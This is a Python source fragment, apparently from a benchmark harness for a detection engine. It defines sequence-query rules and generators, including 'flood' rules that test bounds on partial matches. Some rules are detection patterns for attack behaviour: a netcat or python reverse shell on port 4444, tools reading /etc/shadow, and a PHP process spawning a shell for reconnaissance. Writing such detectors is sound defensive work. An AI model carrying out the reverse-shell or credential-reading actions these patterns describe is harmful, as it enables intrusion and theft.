    'sequence by host.id with maxspan=1m [file where event.type == "creation" and file.path : "/tmp/*"] by file.path [process where event.type == "start"] by process.executable',
    'sequence by process.entity_id with maxspan=1m [process where event.type == "start" and process.name in ("python3", "nc", "sh")] [network where destination.port == 4444]',
    'sequence by process.entity_id with maxspan=2m [process where event.type == "start" and process.name in ("cat", "python3", "cp")] [file where file.path == "/etc/shadow"] until [process where event.type == "end"]',
    'sequence with maxspan=30s [process where event.type == "start" and process.parent.name == "php-fpm" and process.name == "sh"] by process.entity_id [process where event.type == "start" and process.name in ("id", "whoami", "uname")] by process.parent.entity_id',
    'sequence by host.id with maxspan=5m [process where event.type == "start" and process.name == "git"] by process.entity_id [process where event.type == "start" and process.name == "git-remote-https"] by process.parent.entity_id [network where destination.port == 80] by process.parent.entity_id',
)


def sequence_rules(n: int, seed: int = 1) -> list[tuple[str, str]]:
    """``n`` distinct sequence rules ``(rule_id, query)``; prefixes nest
    like :func:`single_event_rules`."""
    r = random.Random(f"sequence-rules-{seed}")
    makers = _sequence_templates()
    queries: list[str] = list(_FIRST_SEQUENCE)
    seen = set(queries)
    i = 0
    while len(queries) < n:
        q = makers[i % len(makers)](r)
        i += 1
        if q not in seen:
            seen.add(q)
            queries.append(q)
    return [(f"bench-seq-{i + 1:03d}", q) for i, q in enumerate(queries[:n])]


def flood_rules() -> list[tuple[str, str]]:
    """Sequence rules whose first step matches constantly, each time under
    a new key, and whose last step never matches: without a bound their
    partial matches would grow with the stream. ``flood-start`` is the
    realistic case (a process-start step without ``until`` or ``maxspan``);
    ``flood-every`` makes every event a first step."""
    return [
        ("bench-flood-start", 'sequence by process.entity_id [process where event.type == "start"] [network where destination.port == 31337]'),
        ("bench-flood-every", "sequence by event.id [any where true] [any where event.id < 0]"),
    ]
